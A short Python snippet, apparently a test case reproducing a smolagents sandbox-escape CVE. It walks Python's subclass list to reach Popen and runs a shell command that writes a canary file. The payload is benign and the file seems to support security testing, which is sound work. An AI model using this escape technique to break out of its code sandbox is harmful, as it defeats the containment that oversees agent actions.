# source: smolagents CVE-2025-9959
# effect: process

import asyncio.subprocess

kinds = (1).__class__.__bases__[0].__subclasses__()
popen = next(kind for kind in kinds if kind.__name__ == "Popen")
popen(["/bin/sh", "-c", "echo subclasses/popen_index > /tmp/canary/process"]).wait()
